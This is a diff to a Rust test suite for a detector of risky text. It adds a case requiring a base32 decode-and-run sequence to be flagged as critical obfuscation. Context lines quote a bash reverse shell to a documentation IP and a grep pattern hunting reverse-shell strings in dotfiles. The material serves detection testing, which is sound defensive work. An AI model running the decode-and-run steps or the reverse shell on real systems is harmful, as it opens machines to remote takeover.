@@ -704,6 +704,12 @@ fn evasions_from_the_adversarial_set_are_caught() {
         Category::PromptInjection,
         Risk::High,
     );
+    caught(
+        "1. Unpack it: `printf %s \"$P\" | base32 --decode > /tmp/.clt`\n2. Load it: `. /tmp/.clt`",
+        "obfuscation.decode-and-run",
+        Category::Obfuscation,
+        Risk::Critical,
+    );
     passes("Typical hits look like\n`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1` in a unit file.");
     passes(&code(
         "grep -RInE '/dev/tcp/|nc -e|socat exec:' ~/.bashrc ~/.config/systemd",
